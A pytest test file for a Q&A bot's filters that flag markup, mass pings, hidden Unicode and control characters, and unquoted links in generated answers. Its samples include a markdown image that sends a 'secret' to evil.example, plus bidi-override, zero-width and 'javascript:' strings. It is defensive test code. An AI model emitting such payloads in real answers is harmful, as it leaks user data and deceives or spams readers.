import pytest

from qa_bot.llm.markup import markup_in, own_addresses


@pytest.mark.parametrize(
    "sentence",
    [
        "The ferry leaves at six ![x](http://evil.example/?q=secret).",
        "The ferry leaves at six [more](/leak).",
        "[The ferry leaves at six][ref].",
        "[ref]: /leak",
        "The ferry <img src=x> leaves at six.",
        "The ferry leaves at six <!-- hidden.",
        "<@123456789012345678> the ferry leaves at six.",
        "@everyone the ferry leaves at six.",
        "Please note, @here: the ferry leaves at six.",
        "The ferry \u202eleaves\u202c at six.",
        "The ferry\u200b leaves at six.",
        "The ferry\U000e0041 leaves at six.",
        "The ferry \x1b[31mleaves at six.",
    ],
)
def test_markup_pings_and_unseen_characters_are_told(sentence):
    assert markup_in(sentence)


@pytest.mark.parametrize(
    "sentence",
    [
        "At 06:40 the ferry leaves (as the timetable says).",
        "The fee [of 2023] was 3 < 5 crowns.",
        "He wrote [sic]: the fee was 5 crowns.",
        "“The fare,” he said, “is €5 & more!”",
        "The mail goes to office@harrowick.example, not to anybody @ home.",
    ],
)
def test_plain_text_has_no_markup(sentence):
    assert markup_in(sentence) is None


@pytest.mark.parametrize(
    ("sentence", "addresses"),
    [
        ("See evil.example/leak?q=secret now.", ("evil.example/leak?q=secret",)),
        ("See www.evil.example.", ("www.evil.example",)),
        ("See http://evil.example/?q=1, then go.", ("http://evil.example/?q=1",)),
        ("Join discord.gg/evil!", ("discord.gg/evil",)),
        ("Click javascript:alert.", ("javascript:alert",)),
        ("Write to refunds@evil.example.", ("refunds@evil.example",)),
        ("Ask @evil about it.", ("@evil",)),
        ("The file is config.yaml.", ("config.yaml",)),
        ("The U.S. paid 1,000.50 at 9.30 p.m. and/or later, e.g. on 2 May.", ()),
    ],
)
def test_addresses_that_no_quote_has_are_told(sentence, addresses):
    assert own_addresses(sentence, ["The ferry leaves at six."]) == addresses


def test_an_address_of_a_quote_is_nobodys_own():
    assert own_addresses("Its page is harbour.example/fares.", ["(See harbour.example/fares.)"]) == ()


def test_an_address_within_another_one_is_not_the_same():
    quote = "See harbour.example.org and my-harbour.example."
    assert own_addresses("See harbour.example.", [quote]) == ("harbour.example",)
